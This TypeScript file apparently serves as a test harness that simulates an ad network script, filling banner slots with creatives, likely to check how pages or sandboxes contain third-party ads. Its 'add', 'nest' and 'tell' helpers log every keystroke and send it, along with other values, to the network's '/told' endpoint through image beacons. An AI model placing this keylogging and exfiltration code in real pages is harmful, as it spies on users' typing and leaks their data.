/** What a script of the network has at hand. */
export interface Kit {
  /** The address of the network. */
  readonly origin: string;
  /** The elements with a numeric banner id. */
  containers(): HTMLElement[];
  /** Puts a creative into a container, of the size that the network keeps for it unless told. */
  fill(container: HTMLElement, ...size: number[]): HTMLElement;
  /** Fills every container, as a network should. */
  fillAll(): HTMLElement[];
  /** Adds an element with content to the document, and reports every key that the document gets. */
  add(name: string, ...content: (string | Node)[]): HTMLElement;
  /**
   * Puts a frame with a text field into the document, which browsers give fresh built-ins and an
   * origin of its own. It reports every key that it gets.
   * @param script runs there, with `tell` and `field` at hand
   */
  nest(script: string): void;
  /** Tells the network's server something that a creative has no business to know. */
  tell(what: string, value: unknown): void;
}

/** What the script does, in the browser: it reaches nothing outside itself but the kit. */
export type Play = (kit: Kit) => void;

/** The text of the network's script. */
export const scriptOf = (play: Play): string => `(${play})((${makeKit})());`;

export const healthy: Play = (kit) => kit.fillAll();

function makeKit(): Kit {
  const { currentScript } = document;
  const address = currentScript instanceof HTMLScriptElement ? currentScript.src : '';
  const { origin } = new URL(address);
  const TALL = ['104', '203', '302'];
  const idOf = (container: HTMLElement) => container.getAttribute('data-banner-id') ?? '';
  const sizeFor = (container: HTMLElement) => {
    if (TALL.includes(idOf(container))) return [300, 600];
    return innerWidth >= 728 && innerHeight < 100 ? [728, 90] : [300, 250];
  };

  const kit: Kit = {
    origin,
    containers: () =>
      [...document.querySelectorAll<HTMLElement>('[data-banner-id]')].filter((found) =>
        /^\d+$/.test(idOf(found)),
      ),
    fill(container, ...size) {
      const [width = 0, height = 0] = size.length > 0 ? size : sizeFor(container);
      const link = document.createElement('a');
      link.href = `${origin}/landing`;
      link.target = '_blank';
      const image = document.createElement('img');
      image.alt = `Creative ${idOf(container)}`;
      image.width = width;
      image.height = height;
      image.src = `${origin}/creative.svg?banner=${idOf(container)}&size=${width}x${height}`;
      link.append(image);
      container.replaceChildren(link);
      return container;
    },
    fillAll: () => kit.containers().map((container) => kit.fill(container)),
    add(name, ...content) {
      const element = document.createElement(name);
      element.append(...content);
      document.body.append(element);
      addEventListener('keydown', ({ key }) => kit.tell('key', key));
      return element;
    },
    nest(script) {
      const frame = document.createElement('iframe');
      frame.width = frame.height = '20';
      const tools = `
        const field = document.querySelector('input');
        const tell = (what, value) => { new Image().src = '${origin}/told?' + what + '=' + value; };
        addEventListener('keydown', ({ key }) => tell('key', key));`;
      frame.srcdoc = `<input><script>${tools}${script}</${'script'}>`;
      document.body.append(frame);
    },
    tell(what, value) {
      new Image().src = `${origin}/told?${what}=${encodeURIComponent(String(value))}`;
    },
  };
  return kit;
}
